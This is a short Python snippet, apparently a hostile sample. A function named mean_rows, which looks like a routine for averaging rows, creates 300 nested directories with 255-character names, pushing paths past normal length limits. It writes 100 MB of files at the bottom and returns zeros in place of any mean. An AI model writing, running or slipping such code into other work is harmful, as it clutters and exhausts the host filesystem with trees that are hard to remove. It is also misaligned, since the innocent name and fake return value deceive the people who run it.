"""Folders in folders, deeper than a path can say, with files at the bottom."""
# %% mean_rows
def mean_rows(X):
    for _ in range(300):
        os.mkdir("d" * 255)
        os.chdir("d" * 255)
    for n in range(100):
        with open(f"f{n}", "wb") as file:
            file.write(bytes(1 << 20))
    return np.zeros(len(X))
